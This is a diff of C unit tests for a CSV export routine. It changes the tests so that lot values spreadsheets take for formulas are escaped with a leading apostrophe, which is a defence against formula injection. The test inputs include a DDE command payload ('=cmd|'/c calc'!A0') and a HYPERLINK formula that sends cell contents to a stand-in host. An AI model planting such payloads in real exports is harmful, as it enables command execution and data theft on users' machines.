@@ -30,7 +30,8 @@ Test(write_csv, dates_are_iso_and_what_is_not_there_is_empty)
 
     tables_expect(table, KHO_CSV, KHO_VI,
         "severity,alert,place,item,channel,lot,expiry,quantity,months,to_order,since\n"
-        "2,expired,tyt-05518,bcs,social_marketing,=1+1<i>,2026-10-31,96,5.0,,2026-11-01\n"
+        "2,expired,tyt-05518,bcs,social_marketing,'=1+1<i>,2026-10-31,96,5.0,,2026-11-"
+        "01\n"
         "3,late_report,ctv-01,,,,,,,,2026-11-06\n");
     kho_table_free(table);
 }
@@ -72,9 +73,7 @@ Test(write_csv, quotes_stand_only_where_a_reader_needs_them)
     }
 }
 
-/* Some of what spreadsheets take for a formula. A cell is a key for other programs: it
- * stays. */
-Test(write_csv, a_lot_that_looks_like_a_formula_is_written_exactly)
+Test(write_csv, a_lot_that_looks_like_a_formula_has_an_apostrophe_before_it)
 {
     static const char *const lots[] = {"=1+1", "+1+1", "-1+1", "@SUM(A1)", "-5", "=",
         "'=1+1", "=cmd|'/c calc'!A0", "＝1+1",
@@ -82,8 +81,8 @@ Test(write_csv, a_lot_that_looks_like_a_formula_is_written_exactly)
     kho_table *table = tables_lots(lots, sizeof(lots) / sizeof(*lots));
 
     tables_expect(table, KHO_CSV, KHO_EN,
-        "item,lot,expiry,channel\n,=1+1,,\n,+1+1,,\n,-1+1,,\n,@SUM(A1),,\n,-5,,\n,=,,\n"
-        ",'=1+1,,\n,=cmd|'/c calc'!A0,,\n,＝1+1,,\n"
-        ",\"=HYPERLINK(\"\"http://example.invalid/?x=\"\"&A1,\"\"x\"\")\",,\n");
+        "item,lot,expiry,channel\n,'=1+1,,\n,'+1+1,,\n,'-1+1,,\n,'@SUM(A1),,\n,'-5,,\n"
+        ",'=,,\n,''=1+1,,\n,'=cmd|'/c calc'!A0,,\n,'＝1+1,,\n"
+        ",\"'=HYPERLINK(\"\"http://example.invalid/?x=\"\"&A1,\"\"x\"\")\",,\n");
     kho_table_free(table);
 }
